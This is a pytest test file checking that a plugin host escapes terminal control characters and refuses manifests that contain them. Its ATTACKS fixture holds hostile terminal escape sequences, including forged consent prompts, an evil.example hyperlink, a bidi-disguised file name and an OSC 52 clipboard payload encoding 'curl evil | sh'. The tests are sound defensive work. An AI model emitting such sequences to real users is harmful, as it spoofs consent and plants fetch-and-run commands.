"""Text a plugin controls never drives the terminal: manifests with control characters are
refused (at build, publish and install alike: they all parse with `load_manifest`), and
run-time text is escaped by one function, `printable`."""

from __future__ import annotations

import pytest

from host.consent import Answers, Question, Situation, decide, install_questions
from sdk.errors import ManifestError
from sdk.manifest import load_manifest
from sdk.terminal_text import printable, unsafe_characters

#: What an attacker would put in text a terminal shows, by class.
ATTACKS = {
    "csi-clear-screen": "\x1b[2J\x1b[H",
    "csi-cursor-up": "\x1b[1A\x1b[2K",
    "osc-title": "\x1b]0;owned\x07",
    "osc-clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "osc-hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "carriage-return": "harmless\rGrant process? [y/N] y",
    "newline-fake-prompt": "reads files\n  Grant process? [y/N]",
    "bell": "\x07",
    "backspace": "abc\x08\x08\x08xyz",
    "nul": "a\x00b",
    "delete": "a\x7fb",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;title\x9c",
    "bidi-override": "invoice\u202etxt.exe",
    "bidi-isolate": "\u2066hidden\u2069",
    "line-separator": "one\u2028two",
    "tab": "a\tb",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_printable_leaves_nothing_a_terminal_would_obey(text: str) -> None:
    shown = printable(text)
    assert unsafe_characters(shown) == []
    assert printable(shown) == shown  # idempotent: escaping twice changes nothing
    assert unsafe_characters(printable(text, multiline=True).replace("\n", "").replace("\t", "")) == []


def test_printable_keeps_ordinary_text_and_multiline_keeps_line_breaks() -> None:
    assert printable("naïve café — 日本語 ✓") == "naïve café — 日本語 ✓"
    assert printable("a\nb\tc") == "a\\nb\\tc"
    assert printable("a\nb\tc\x1b", multiline=True) == "a\nb\tc\\x1b"
    assert printable("x\u202ey") == "x\\u202ey"


def _manifest(**fields: str) -> str:
    values = {
        "description": "A demo.",
        "reason": "Reads history.",
        "command_description": "Greets.",
        "keyword": "demo",
        "prop_description": "a name",
        **fields,
    }
    return f"""
name = "demo"
version = "1.0.0"
description = {values["description"]!r}
keywords = [{values["keyword"]!r}]

[capabilities.process]
programs = ["git"]
reason = {values["reason"]!r}

[[commands]]
name = "hello"
description = {values["command_description"]!r}
[commands.input]
type = "object"
properties.name = {{ type = "string", description = {values["prop_description"]!r} }}
"""


def _toml_string(text: str) -> str:
    return '"' + "".join(f"\\u{ord(c):04x}" if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F else c for c in text) + '"'


@pytest.mark.parametrize("field", ["description", "reason", "command_description", "keyword", "prop_description"])
@pytest.mark.parametrize(
    "attack", ["csi-clear-screen", "carriage-return", "newline-fake-prompt", "bidi-override", "c1-csi"]
)
def test_a_manifest_field_with_a_control_character_is_refused(field: str, attack: str) -> None:
    text = _manifest()
    good = {
        "description": "A demo.",
        "reason": "Reads history.",
        "command_description": "Greets.",
        "keyword": "demo",
        "prop_description": "a name",
    }[field]
    hostile = text.replace(f"'{good}'", _toml_string(ATTACKS[attack]), 1)
    assert hostile != text
    with pytest.raises(ManifestError) as refused:
        load_manifest(hostile)
    assert "holds a control character" in refused.value.message
    assert unsafe_characters(refused.value.message) == []  # the error itself is safe to print
    load_manifest(text)  # the same manifest without it is fine


def test_consent_questions_cannot_be_spoofed_even_from_an_unchecked_manifest() -> None:
    # A manifest parsed without the check (an old install) still cannot forge a prompt line.
    manifest = load_manifest(_manifest())
    capability = manifest.capabilities["process"]
    forged = type(capability)("fine\n  Grant fs? [y/N] y\x1b[1A\x1b[2K", programs=("git",))
    question = Question("process", f"process: {forged.scope_summary()}", forged.reason)
    shown = question.describe()
    assert shown.count("\n") == 1  # only our own "why:" line
    assert "\x1b" not in shown and "\\x1b[1A" in shown
    lines: list[str] = []
    decide(
        [question],
        Answers(yes=True, announce=lines.append),
        Situation(title="demo asks for:", hint=""),
        label="demo",
    )
    assert all(unsafe_characters(line) == [] for line in lines)
    assert [q.kind for q in install_questions(manifest)] == ["process"]


def test_a_plugins_error_message_is_escaped_wherever_it_goes() -> None:
    from host.errors import PluginFailed

    error = PluginFailed("failed", "boom\x1b]0;owned\x07\nTraceback line", plugin="p", command="c")
    assert error.detail == "boom\\x1b]0;owned\\x07\nTraceback line"  # its own line breaks stay
    assert unsafe_characters(error.message.replace("\n", "")) == []


def test_the_cli_prints_errors_without_escape_sequences() -> None:
    import click
    from click.testing import CliRunner

    from acc_cli.root import RootGroup
    from sdk.errors import AccError

    @click.group(cls=RootGroup)
    def root() -> None:
        """A root like acc's."""

    @root.command()
    def fail() -> None:
        raise AccError("a marketplace said \x1b[2J\x1b[H\rGrant process? [y/N]", hint="\x9b1A")

    result = CliRunner().invoke(root, ["fail"])
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\r" not in result.output and "\x9b" not in result.output
    assert "\\x1b[2J" in result.output
